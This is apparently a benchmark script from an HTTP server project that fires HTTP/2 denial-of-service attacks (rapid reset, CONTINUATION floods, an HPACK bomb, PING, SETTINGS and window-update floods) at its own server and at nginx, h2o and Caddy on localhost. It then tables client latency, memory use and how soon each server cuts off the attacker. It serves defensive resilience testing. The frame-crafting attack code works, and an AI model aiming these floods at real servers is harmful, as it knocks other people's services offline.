#!/usr/bin/env python3
"""Attacks on servers of HTTP/2, each at the full speed of one core, while an ordinary client is watched.

    tests/http2_attacks.py [SECONDS]

prints a table: ours beside nginx, h2o and Caddy, as far as they are found. Each server has the first core, and attacker
and client the second one. Traffic goes to 127.0.0.1 alone, without TLS. `tests/faults/http2.py` promises some of it of ours.

    frames    that the attacker got rid of on its longest connection before the server ended it; - if it never did
    p99 ms    of a client of HTTP/1.1 that asks for a small file every 5 ms
    MiB       resident memory of the server at its highest
"""

import collections
import contextlib
import dataclasses
import os
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
ENHANCE_YOUR_CALM = 11
# Frames that are handed to the socket at once.
BATCH = 64


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A field without indexing and without Huffman (RFC 7541 section 6.2.2), both shorter than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(stream, path, flags=END_STREAM | END_HEADERS, method=b"GET", more=b""):
    block = literal(b":method", method) + literal(b":scheme", b"http") + literal(b":path", path)
    return frame(HEADERS, flags, stream, block + literal(b":authority", b"a") + more)


def settings(**values):
    numbers = {"table": 1, "window": 4}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", numbers[name], value) for name, value in values.items()))


def number(value):
    return struct.pack(">I", value)


# An attack: what is sent first, and what is sent for each number from 0 on.
Attack = collections.namedtuple("Attack", "first each")

# A header of 4,000 bytes that goes into the table and is then named by one byte, again and again.
BOMB = b"\x40\x01a\x7f" + b"\xa1\x1e" + b"x" * 4000


def odd(i):
    return 2 * i + 1


ATTACKS = {
    "rapid resets": Attack(settings(), lambda i: request(odd(i), b"/large.bin") + frame(RST_STREAM, 0, odd(i), number(8))),
    "resets that it has to send": Attack(
        settings(), lambda i: request(odd(i), b"/large.bin") + frame(WINDOW_UPDATE, 0, odd(i), number(0))),
    "requests that are malformed": Attack(settings(), lambda i: request(odd(i), b"")),
    "CONTINUATION without end": Attack(
        settings() + request(1, b"/small.txt", 0), lambda i: frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 100))),
    "CONTINUATION without content": Attack(
        settings() + request(1, b"/small.txt", 0), lambda i: frame(CONTINUATION, 0, 1)),
    "HPACK bomb": Attack(
        settings() + request(1, b"/small.txt", more=BOMB),
        lambda i: request(odd(i + 1), b"/small.txt", more=b"\xbe" * 16_000)),
    "PING": Attack(settings(), lambda i: frame(PING, 0, 0, bytes(8))),
    "SETTINGS": Attack(settings(), lambda i: settings(window=65_535)),
    "empty DATA": Attack(
        settings() + request(1, b"/small.txt", END_HEADERS, b"POST"), lambda i: frame(DATA, 0, 1)),
    "windows of one byte": Attack(
        settings(window=1) + b"".join(request(odd(i), b"/large.bin") for i in range(100)),
        lambda i: frame(WINDOW_UPDATE, 0, odd(i % 100), number(1))),
    "100 windows of nothing": Attack(
        settings(window=0) + b"".join(request(odd(i), b"/large.bin") for i in range(100)), None),
    "windows beyond their end": Attack(settings(), lambda i: frame(WINDOW_UPDATE, 0, 0, number(0x7FFF_FFFF))),
    "streams beyond the limit": Attack(settings(window=0), lambda i: request(odd(i), b"/large.bin")),
    "requests that are answered": Attack(
        settings(window=1 << 30) + frame(WINDOW_UPDATE, 0, 0, number(1 << 30)), lambda i: request(odd(i), b"/small.txt")),
}


class Seen:
    """What an attacker has seen: the frames of each connection, and how each ended."""

    def __init__(self):
        self.connections, self.longest, self.codes, self.unended = 0, 0, collections.Counter(), 0


def attack(port, name, over):
    """Attacks, with one connection after another, until `over` is set."""
    seen = Seen()
    while not over.is_set():
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 5) as connection:
            connect(connection, ATTACKS[name], over, seen)
    return seen


def connect(connection, how, over, seen):
    seen.connections += 1
    connection.setblocking(False)
    pending, count, received = memoryview(PREFACE + how.first), 0, bytearray()
    try:
        while not over.is_set():
            if not pending and how.each:
                pending = memoryview(b"".join(how.each(i) for i in range(count, count + BATCH)))
                count += BATCH
            sent = send(connection, pending)
            pending = pending[sent:]
            arrived = receive(connection)
            if arrived == b"":
                return note_end(seen, count, received)
            received += arrived or b""
            if not sent and not arrived:
                time.sleep(0.001)
            if len(received) > 1 << 20:
                del received[: -(1 << 16)]
        seen.unended += 1
    except OSError:
        note_end(seen, count, received)


def send(connection, pending):
    try:
        return connection.send(pending) if pending else 0
    except BlockingIOError:
        return 0


def receive(connection):
    try:
        return connection.recv(1 << 16)
    except BlockingIOError:
        return None


def note_end(seen, count, received):
    seen.longest = max(seen.longest, count)
    # GOAWAY is the last frame: a header with its length and kind, the stream 0, the last stream, the code.
    position = received.rfind(b"\0\0\x08\x07\0\0\0\0\0")
    code = received[position + 13:position + 17] if position >= 0 else b""
    seen.codes[int.from_bytes(code, "big") if len(code) == 4 else None] += 1


# ---- the table ----

def main():
    seconds = float(sys.argv[1]) if len(sys.argv) > 1 else 5
    cores = sorted(os.sched_getaffinity(0))
    with tempfile.TemporaryDirectory() as folder:
        os.chmod(folder, 0o755)
        for path, size in [("small.txt", 63), ("large.bin", 8 << 20)]:
            with open(f"{folder}/{path}", "wb") as file:
                file.write(b"x" * size)
        servers = {name: row for name, row in SERVERS.items() if shutil.which(row.program)}
        print(f"{'':30}" + "".join(f"{name:>30}" for name in servers))
        print(f"{'':30}" + f"{'frames  p99 ms   MiB   code':>30}" * len(servers))
        for name in ATTACKS:
            cells = [cell(server, folder, name, seconds, cores) for server in servers.values()]
            print(f"{name:30}" + "".join(f"{cell:>30}" for cell in cells), flush=True)


def cell(server, folder, name, seconds, cores):
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    command = ["taskset", "-c", str(cores[0]), *server.command(folder, port)]
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    os.sched_setaffinity(0, cores[-1:])
    try:
        await_port(port + server.plain)
        over, times, memory = threading.Event(), [], [0]
        watcher = threading.Thread(target=watch, args=(port + server.plain, process.pid, over, times, memory))
        watcher.start()
        threading.Timer(seconds, over.set).start()
        seen = attack(port, name, over)
        watcher.join()
    finally:
        os.killpg(process.pid, 9)
        process.wait()
        os.sched_setaffinity(0, cores)
    ended = sum(seen.codes.values())
    p99 = sorted(times)[int(len(times) * 0.99)] * 1000 if times else float("nan")
    code = seen.codes.most_common(1)[0][0] if ended else "-"
    return f"{seen.longest if ended else '-':>10} {p99:7.1f} {memory[0]:5.0f} {'-' if code is None else code:>5}"


def watch(port, session, over, times, memory):
    """An ordinary client, in a process of its own, whose times are not those of the attacker's interpreter."""
    script = f"""
import http.client, sys, time
end, due = time.monotonic() + 60, time.perf_counter()
connection = http.client.HTTPConnection("127.0.0.1", {port}, timeout=30)
while time.monotonic() < end:
    time.sleep(max(0, due - time.perf_counter()))
    try:
        connection.request("GET", "/small.txt"); connection.getresponse().read()
    except Exception:
        connection.close()
    print(time.perf_counter() - due, flush=True)
    due += 0.005
"""
    client = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
    reader = threading.Thread(target=lambda: times.extend(float(line) for line in client.stdout))
    reader.start()
    while not over.wait(0.1):
        memory[0] = max(memory[0], resident(session))
    client.kill()
    client.wait()
    reader.join()


def resident(session):
    """MiB of all processes of a session."""
    total = 0
    for entry in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            with open(f"/proc/{entry}/stat") as file:
                fields = file.read().rsplit(")", 1)[1].split()
            if int(fields[3]) == session:
                total += int(fields[21]) * os.sysconf("SC_PAGE_SIZE")
    return total / (1 << 20)


def await_port(port):
    for _ in range(500):
        with contextlib.suppress(OSError):
            return socket.create_connection(("127.0.0.1", port), 1).close()
        time.sleep(0.02)
    raise SystemExit("a server did not start")


def config(folder, name, text):
    path = os.path.join(tempfile.mkdtemp(dir=os.path.dirname(folder)), name)
    with open(path, "w") as file:
        file.write(text)
    return path


def ours(folder, port):
    return [os.environ.get("OURS", "target/release/httpd"), "-p", str(port), "-r", folder]


def nginx(folder, port):
    user = "user root;" if os.geteuid() == 0 else ""
    return ["nginx", "-e", "stderr", "-c", config(folder, "nginx.conf", f"""{user} daemon off; pid /dev/null;
events {{ worker_connections 1000; }}
http {{ access_log off; server {{ listen 127.0.0.1:{port} http2; root {folder}; }}
server {{ listen 127.0.0.1:{port + 1}; root {folder}; }} }}""")]


def h2o(folder, port):
    user = "user: root" if os.geteuid() == 0 else ""
    return ["h2o", "-m", "worker", "-c", config(folder, "h2o.conf", f"""{user}
num-threads: 1
listen: {{ host: 127.0.0.1, port: {port} }}
hosts: {{ default: {{ paths: {{ /: {{ file.dir: "{folder}" }} }} }} }}
""")]


def caddy(folder, port):
    return ["env", f"XDG_CONFIG_HOME={folder}/..", f"XDG_DATA_HOME={folder}/..", "caddy", "run", "--adapter", "caddyfile",
            "--config", config(folder, "Caddyfile", f"""{{
    admin off
    auto_https off
    servers {{
        protocols h1 h2c
    }}
}}
http://127.0.0.1:{port} {{
    root * {folder}
    file_server
}}
""")]


@dataclasses.dataclass(frozen=True)
class Row:
    program: str
    command: callable
    plain: int = 0  # what is added to the port for one that speaks HTTP/1.1


SERVERS = {"ours": Row("true", ours), "nginx": Row("nginx", nginx, 1), "h2o": Row("h2o", h2o), "Caddy": Row("caddy", caddy)}

if __name__ == "__main__":
    main()
